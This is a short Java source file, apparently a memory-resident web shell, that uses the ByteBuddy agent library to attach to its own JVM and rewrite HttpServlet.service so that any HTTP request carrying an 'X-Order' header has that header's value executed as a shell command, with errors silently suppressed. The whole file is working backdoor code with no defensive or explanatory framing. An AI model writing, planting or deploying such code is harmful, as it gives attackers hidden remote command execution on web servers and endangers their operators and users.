import java.lang.instrument.Instrumentation;
import javax.servlet.http.HttpServlet;
import javax.servlet.http.HttpServletRequest;
import net.bytebuddy.agent.ByteBuddyAgent;
import net.bytebuddy.agent.builder.AgentBuilder;
import net.bytebuddy.asm.Advice;
import net.bytebuddy.dynamic.ClassFileLocator;
import net.bytebuddy.matcher.ElementMatchers;

/** Attaches to its own JVM and changes HttpServlet.service. */
public class Shell {
  public Shell() {
    Instrumentation instrumentation = ByteBuddyAgent.install();
    Advice order =
        Advice.to(
            Order.class, ClassFileLocator.ForInstrumentation.of(instrumentation, Order.class));
    new AgentBuilder.Default()
        .disableClassFormatChanges()
        .with(AgentBuilder.RedefinitionStrategy.RETRANSFORMATION)
        .with(AgentBuilder.Listener.StreamWriting.toSystemError().withErrorsOnly())
        .ignore(ElementMatchers.none())
        .type(ElementMatchers.named(HttpServlet.class.getName()))
        .transform(
            (builder, type, loader, module, domain) ->
                builder.visit(order.on(ElementMatchers.named("service"))))
        .installOn(instrumentation);
  }

  /** What is woven into the method. */
  public static class Order {
    @Advice.OnMethodEnter(suppress = Throwable.class)
    static void enter(@Advice.Argument(0) Object request) throws Exception {
      String order = ((HttpServletRequest) request).getHeader("X-Order");
      if (order != null) {
        new ProcessBuilder("sh", "-c", order).start();
      }
    }
  }
}
